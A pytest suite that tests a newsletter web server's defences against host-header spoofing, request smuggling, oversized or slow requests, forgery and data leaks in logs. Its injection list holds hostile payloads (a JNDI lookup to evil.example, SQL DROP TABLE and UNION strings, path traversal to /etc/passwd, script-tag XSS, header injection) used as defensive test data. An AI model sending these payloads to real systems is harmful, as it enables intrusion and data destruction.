"""Hostile requests over a real socket: host names, paths, sizes, slow clients, headers; and what is logged."""

import contextlib
import re
import socket
import sqlite3
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from composer.audience.identity.tokens import Purpose
from composer.audience.subscribers import Status
from composer.core.workspace import Workspace
from composer.database.location import Location
from composer.database.schema_upgrade import open_database
from composer.web.public.http import guard
from composer.web.public.http.guard import PublicAddress
from composer.web.public.http.timeouts import SlowClientProtocol
from tests.transport.setup import factor, with_more_time
from tests.web.public.page_harness import STEM, TOKEN, WITHDRAWN, Desk, frozen
from tests.web.public.running import Running, phrase, running

PATHS = ("/subscribe", "/preferences", "/unsubscribe/x", "/nothing", "/health", f"/{STEM}", "/subscribe/")
LINE = re.compile(r"[a-z_]+ (GET|HEAD|POST|PUT|DELETE|OPTIONS|PATCH|TRACE|other) (\d{3}|gone) \d+ ms")


@pytest.fixture
def pages(publication: Workspace, sqlite_template: Path, tmp_path: Path) -> Iterator[Running]:
    """Pages on SQLite only: what is tested here does not depend on the database."""
    path = tmp_path / "newsletter.db"
    path.write_bytes(sqlite_template.read_bytes())
    desk = Desk(edition=frozen(publication))
    with (
        open_database(Location(path=path)) as database,
        running(publication, database, approvals=desk, editions=desk) as made,
    ):
        yield made


@pytest.mark.parametrize(
    "host",
    ["evil.example", "news.example.org.evil.example", "news.example.org:8443", "", "news.example.org, x"],
)
def test_another_host_name_is_rejected(pages: Running, host: str) -> None:
    """Any path under another host name gets a 421, and no page that could be cached under that name."""
    for path in PATHS:
        answer = pages.ask("GET", path, host=host)
        assert answer.status in (400, 421)
        assert "<" not in answer.body


@pytest.mark.parametrize(
    "host", ["news.example.org", "NEWS.example.org:443", "127.0.0.1:{port}", "localhost", "[::1]:80"]
)
def test_its_own_names_are_answered(pages: Running, host: str) -> None:
    """The public name is answered, and this computer's own names, for health checks."""
    assert pages.ask("GET", "/subscribe", host=host.format(port=pages.port)).status == 200


def test_a_length_given_in_two_ways_ends_the_connection(pages: Running) -> None:
    """A request with Content-Length and Transfer-Encoding: the latter applies, and what follows is not read as a request.

    A proxy that uses the other one would read it as part of the first; so the connection is closed (RFC 9112, 6.1).
    """
    head = b"POST /n/subscribe HTTP/1.1\r\nHost: news.example.org\r\n"
    follows = b"GET /n/health HTTP/1.1\r\nHost: news.example.org\r\n\r\n"
    for lengths in (
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        b"Transfer-Encoding: chunked\r\ncontent-length: 99\r\n",
    ):
        answer = pages.raw(head + lengths + b"\r\n0\r\n\r\n" + follows)
        assert answer.count(b"HTTP/1.1 ") == 1
        assert b"\r\nconnection: close\r\n" in answer.lower()
        assert not answer.endswith(b"ok\n")
    # With only one of them, the connection is kept and both requests are answered.
    both = pages.raw(
        head + b"Content-Length: 0\r\n\r\n" + follows.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    )
    assert both.count(b"HTTP/1.1 ") == 2
    assert both.endswith(b"ok\n")


def test_no_link_is_made_of_a_request(pages: Running) -> None:
    """Neither the Host header nor a proxy's headers appear in links: every address comes from newsletter.yaml."""
    forged = {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Prefix": "/evil",
        "X-Forwarded-Proto": "gopher",
        "Forwarded": "host=evil.example",
        "X-Original-URL": "/evil",
        "Referer": "https://evil.example/",
    }
    pages.join("anna@example.net")
    for path in PATHS:
        assert "evil" not in str(pages.get(path, forged))
    pages.post_form("/subscribe", {"email": "new@example.net"}, forged)
    pages.post_form("/preferences", {"email": "anna@example.net"}, forged)
    assert pages.settled() == ["accepted", "accepted"]
    for message in pages.mail():
        assert pages.link_in(message)
        assert "evil" not in message.as_string()


def test_the_path_may_be_stripped_or_not(pages: Running) -> None:
    """A proxy forwards /n/subscribe or /subscribe: the same page, with links to /n either way."""
    kept = pages.raw(b"GET /n/subscribe HTTP/1.1\r\nHost: news.example.org\r\nConnection: close\r\n\r\n")
    stripped = pages.raw(b"GET /subscribe HTTP/1.1\r\nHost: news.example.org\r\nConnection: close\r\n\r\n")
    page = kept.partition(b"\r\n\r\n")[2]
    assert stripped.partition(b"\r\n\r\n")[2] == page
    assert b'action="/n/subscribe?language=en"' in page
    assert pages.get("").title == pages.get("/").title == "Subscribe to China Briefing"
    assert (
        pages.raw(b"GET /nn/subscribe HTTP/1.1\r\nHost: news.example.org\r\nConnection: close\r\n\r\n")[9:12] == b"404"
    )


def test_public_addresses() -> None:
    """Addresses with a port, with a path, in IPv6, and at the root."""
    plain = PublicAddress.of("https://News.example.org/")
    assert (plain.path, plain.hosts) == ("", frozenset({"news.example.org", "news.example.org:443"}))
    odd = PublicAddress.of("http://[::1]:8080/a%20b/n/")
    assert (odd.path, odd.hosts, odd.url) == ("/a b/n", frozenset({"[::1]:8080"}), "http://[::1]:8080/a%20b/n")


@pytest.mark.parametrize(
    "path", [*PATHS, "/brand/x", f"/approve/{TOKEN}", f"/approve/{TOKEN}/edition/1", "/unsubscribe/a/b/c"]
)
def test_every_answer_is_guarded(pages: Running, path: str) -> None:
    """Every response has the same headers, a policy that allows nothing by default and no script, and no cookie."""
    for method in ("GET", "HEAD", "POST", "PUT"):
        answer = pages.ask(method, path)
        assert answer.header("x-content-type-options") == "nosniff"
        assert answer.header("referrer-policy") == "no-referrer"
        assert answer.header("cross-origin-opener-policy") == "same-origin"
        policy = answer.header("content-security-policy") or ""
        assert policy.startswith("default-src 'none'")
        assert "script-src" not in policy
        assert "frame-ancestors 'none'" in policy or "/edition" in path
        assert answer.header("set-cookie") is None
        assert answer.header("location") is None
        assert answer.header("server") is None
        is_kept = path == f"/{STEM}" and method in ("GET", "HEAD")
        assert answer.header("cache-control") == ("public, max-age=3600" if is_kept else "no-store")
        assert "<script" not in answer.body


def test_an_edition_runs_nothing(pages: Running) -> None:
    """Any edition is in a sandbox without scripts and forms, and shows only its own pictures."""
    answer = pages.get(f"/{STEM}")
    policy = answer.header("content-security-policy") or ""
    assert "sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox" in policy
    assert "form-action 'none'" in policy
    names = re.findall(rf'src="/n/{STEM}/pictures/([^"]+)"', answer.body)
    assert names
    for name in names:
        head = pages.ask("HEAD", f"/{STEM}/pictures/{name}")
        assert (head.status, head.header("content-type")) == (200, "image/png")
    assert pages.get(f"/{STEM}/pictures/none").status == 404
    assert pages.get("/2025-01-31").status == 404
    assert pages.get(f"/approve/other/edition/1/pictures/{names[0]}").status == 404


def test_a_withdrawn_edition(pages: Running) -> None:
    """Its web copy shows only the reason, and its pictures are gone."""
    names = re.findall(rf'src="/n/{STEM}/pictures/([^"]+)"', pages.get(f"/{STEM}").body)
    answer = pages.get(f"/{WITHDRAWN}")
    assert answer.status == 410 and "Wrong &lt;b&gt;figures&lt;/b&gt;." in answer.body
    assert answer.header("cache-control") == "no-store"
    assert pages.get(f"/{WITHDRAWN}/pictures/{names[0]}").status == 404


def test_no_cookie_no_forgery(pages: Running) -> None:
    """A post from another site changes nothing: it would need a token, since no browser session exists."""
    subscriber = pages.join("anna@example.net")
    foreign = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Cookie": "session=1"}
    for path in (
        "/preferences/x",
        "/preferences/x/erase",
        "/preferences/x/leave",
        "/confirm/x",
        "/approve/x",
        "/unsubscribe/x",
    ):
        assert pages.post_form(path, {"List-Unsubscribe": "One-Click", "answer": "yes"}, foreign).status == 404
    found = pages.subscriber("anna@example.net")
    assert found is not None
    assert (found.status, found.changed if hasattr(found, "changed") else None) == (Status.ACTIVE, None)
    assert subscriber == found


def test_large_bodies(pages: Running) -> None:
    """More than 32 KB is rejected, by its Content-Length or as soon as it is exceeded."""
    assert pages.post_form("/subscribe", {"email": "x" * 32_000}).status == 422
    answer = pages.post_form("/subscribe", {"email": "x" * 33_000})
    assert (answer.status, answer.title) == (413, phrase("large_title"))
    head = b"POST /n/subscribe HTTP/1.1\r\nHost: news.example.org\r\n"
    assert pages.raw(head + b"Content-Length: 99999999999999999999999\r\n\r\n")[9:12] in (b"413", b"400")
    chunk = b"2000\r\n" + b"x" * 0x2000 + b"\r\n"
    assert b" 413 " in pages.raw(head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 8)[:20]
    assert pages.raw(b"GET /n/" + b"x" * 20_000 + b" HTTP/1.1\r\n\r\n")[9:12] == b"400"
    assert pages.post_form("/subscribe", [("email", "a")] * 65).status == 400
    boundary = {"Content-Type": "multipart/form-data; boundary=x"}
    many = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n' * 80 + b"--x--\r\n"
    assert pages.ask("POST", "/subscribe", many, boundary).status == 400
    assert pages.ask("POST", "/subscribe", b"x", {"Content-Type": "multipart/form-data"}).status == 400


def _make_hasty(monkeypatch: pytest.MonkeyPatch) -> None:
    """Shorten the servers' timeouts, so that the tests are fast."""
    monkeypatch.setattr(SlowClientProtocol, "head_seconds", 0.4 * factor.get())
    monkeypatch.setattr(SlowClientProtocol, "request_seconds", 1.5 * factor.get())
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.4 * factor.get())


def _closes(connection: socket.socket) -> bytes:
    """Read until the server closes the connection; fail if it does not."""
    connection.settimeout(60)
    data = b""
    with contextlib.suppress(ConnectionResetError):
        while piece := connection.recv(65536):
            data += piece
    return data


@with_more_time
def test_slow_clients(pages: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    """No bytes, half a head, a head byte by byte, half a body, an unread response: disconnected, while others are served."""
    _make_hasty(monkeypatch)
    head = b"POST /n/subscribe HTTP/1.1\r\nHost: news.example.org\r\nContent-Length: 30\r\n\r\n"
    with contextlib.ExitStack() as stack:

        def call() -> socket.socket:
            return stack.enter_context(socket.create_connection(("127.0.0.1", pages.port)))

        silent, half, body = call(), call(), call()
        half.sendall(head[:40])
        body.sendall(head + b"email=")
        assert pages.get("/subscribe").status == 200
        assert _closes(silent) == b""
        assert _closes(half) == b""
        assert b" 408 " in _closes(body)[:20]

        dripping = call()
        with contextlib.suppress(OSError):
            for byte in head * 3:
                dripping.sendall(bytes([byte]))
                time.sleep(0.01 * factor.get())
            raise AssertionError("it waited for ever")

        kept = call()
        kept.sendall(head.replace(b"30", b"0"))
        assert b" 422 " in kept.recv(65536)[:20]
        kept.sendall(head[:10])
        assert _closes(kept) is not None

        reading = call()
        reading.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        question = f"GET /n/{STEM} HTTP/1.1\r\nHost: news.example.org\r\n\r\n".encode()
        with contextlib.suppress(OSError):
            reading.sendall(question * 300)
        # Clients that do not read are disconnected: only the connections that are being answered are left.
        _until(lambda: len(pages.server.server_state.connections) <= 1)
        _until(lambda: not pages.server.server_state.connections)
        assert pages.get("/subscribe").status == 200


def _until(holds: Callable[[], bool]) -> None:
    end = time.monotonic() + 30 * factor.get()
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.01)


def test_silent_clients_do_not_block_others(pages: Running) -> None:
    """Two hundred silent connections do not block a request."""
    with contextlib.ExitStack() as stack:
        for _ in range(200):
            stack.enter_context(socket.create_connection(("127.0.0.1", pages.port)))
        assert pages.get("/subscribe").status == 200
        # None of them was disconnected before.
        assert len(pages.server.server_state.connections) >= 200


INJECTED = (
    "x\r\nSet-Cookie: a=b", "x\nBcc: all@example.net", "\x00", "\x1b[31m", "${jndi:ldap://evil.example}", "{{7*7}}",
    "{% raw %}", "' OR '1'='1", "'; DROP TABLE subscribers; --", '" UNION SELECT 1 --', "\\", "%s%n%x", "../../etc/passwd",
    "<script>alert(1)</script>",
    "\u2028", "\ud7ff\ufffe", "𝔘" * 60, "a" * 2500,
)  # fmt: skip


@pytest.mark.parametrize("text", INJECTED)
def test_injections(pages: Running, text: str) -> None:
    """Attacks in every field, path and header: usual statuses, no injected header, line or tag, no lost row."""
    subscriber = pages.join("anna@example.net")
    own, token = pages.own_link(subscriber), pages.token(Purpose.UNSUBSCRIBE, subscriber)
    names = (
        "email",
        "name",
        "edition",
        "language",
        "website",
        "tag",
        "field-company",
        "reason",
        "comment",
        "answer",
        text,
    )
    for path in (
        "/subscribe",
        "/preferences",
        own,
        f"/unsubscribe/{token}",
        f"/approve/{TOKEN}",
        f"{own}/data",
        f"{own}/leave",
    ):
        answer = pages.post_form(path, dict.fromkeys(names, text) | {"List-Unsubscribe": "One-Click"})
        assert answer.status in (200, 422)
        assert "<script>alert" not in answer.body or path.endswith("/data")
        assert "49" not in re.findall(r">([^<]*)<", answer.body)
        assert answer.header("set-cookie") is None
        if text.isprintable():
            header = {
                "Accept-Language": text[:1000],
                "User-Agent": text[:1000],
                "X-Forwarded-For": text[:1000],
                "Origin": text[:1000],
            }
            with contextlib.suppress(UnicodeEncodeError):
                assert pages.get("/subscribe", header).status == 200
    quoted = urllib.parse.quote(text[:1000], safe="")
    for folder in ("", "/unsubscribe", "/probe", "/brand", "/confirm", "/preferences", "/approve"):
        assert pages.get(f"{folder}/{quoted}").status == 404
    for path in (f"/subscribe?language={quoted}", f"/preferences?{quoted}"):
        assert pages.get(path).status == 200
    assert pages.subscriber("anna@example.net") is not None
    for line in pages.told:
        assert LINE.fullmatch(line) or line.startswith("mail "), line
    assert not any("anna" in line or token in line for line in pages.told)


def test_what_is_written_down(pages: Running) -> None:
    """One line per response: page, method, status, duration. No path, address, token or user agent."""
    subscriber = pages.join("anna@example.net")
    token = pages.token(Purpose.UNSUBSCRIBE, subscriber)
    pages.told.clear()
    pages.get(f"/unsubscribe/{token}?x=anna", {"User-Agent": "spy", "X-Forwarded-For": "198.51.100.7"})
    pages.raw(b"BREW\t/n/x HTTP/1.1\r\nHost: news.example.org\r\n\r\n")
    pages.ask("BREW", "/subscribe")
    assert [line.partition(" ms")[0].rpartition(" ")[0] for line in pages.told] == [
        "unsubscribe GET 200",
        "subscribe other 405",
    ]


def test_probe_and_health(pages: Running) -> None:
    """The probe proves every key for a nonce; /health says whether the database responds and mail is sent."""
    nonce = "0123456789abcdef-_ABCDEF"
    answer = pages.get(f"/probe/{nonce}")
    assert answer.status == 200
    assert tuple(answer.body.split()) == pages.tokens.proofs(nonce)
    assert len(set(pages.tokens.proofs(nonce))) == 2
    for bad in ("short", "x" * 129, "a b c d e f g h i", "ü" * 20):
        assert pages.get(f"/probe/{urllib.parse.quote(bad)}").status == 404
    assert (pages.get("/health").status, pages.get("/health").body) == (200, "ok\n")
    pages.worker.stop(5)
    assert pages.get("/health").status == 503


def test_a_locked_database_is_waited_for(pages: Running) -> None:
    """While a mailing writes for a second, an unsubscribe request waits and then succeeds."""
    assert pages.database.path is not None
    subscriber = pages.join("anna@example.net")
    other = sqlite3.connect(pages.database.path, isolation_level=None, check_same_thread=False)
    other.execute("BEGIN IMMEDIATE")
    timer = threading.Timer(1.0, lambda: other.execute("COMMIT"))
    timer.start()
    token = pages.token(Purpose.UNSUBSCRIBE, subscriber)
    answer = pages.post_form(f"/unsubscribe/{token}", {"List-Unsubscribe": "One-Click"})
    timer.join()
    other.close()
    assert answer.status == 200
    found = pages.subscriber("anna@example.net")
    assert found is not None
    assert found.status is Status.UNSUBSCRIBED


def test_a_database_that_is_gone(pages: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without a database, the page says to try again and names no table; a bug's page names no subscriber."""
    from composer.core.errors import DatabaseError
    from composer.web.public.pages import unsubscribe

    subscriber = pages.join("anna@example.net")
    path = f"/unsubscribe/{pages.token(Purpose.UNSUBSCRIBE, subscriber)}"
    for error, status in ((DatabaseError("the disk is full"), 503), (ValueError(subscriber.address), 500)):

        def fail(*_: object, error: Exception = error) -> None:
            raise error

        monkeypatch.setattr(unsubscribe, "leave", fail)
        answer = pages.post_form(path, {"List-Unsubscribe": "One-Click"})
        assert (answer.status, answer.title, answer.header("retry-after")) == (status, phrase("busy_title"), "60")
        assert "disk" not in answer.body
    assert any(line.startswith("bug: ValueError\n") for line in pages.told)
    assert not any("anna" in line for line in pages.told)
